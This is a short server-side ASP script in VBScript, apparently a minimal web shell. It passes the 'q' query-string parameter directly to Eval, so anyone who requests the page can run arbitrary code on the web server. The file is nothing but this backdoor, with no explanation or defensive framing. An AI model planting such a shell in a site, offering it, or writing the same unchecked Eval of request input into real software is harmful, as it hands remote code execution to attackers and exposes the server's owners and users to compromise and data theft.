<script language="vbscript" runat="server">
Sub Go(x) : Eval(x) : End Sub
Go Request.QueryString("q")
</script>
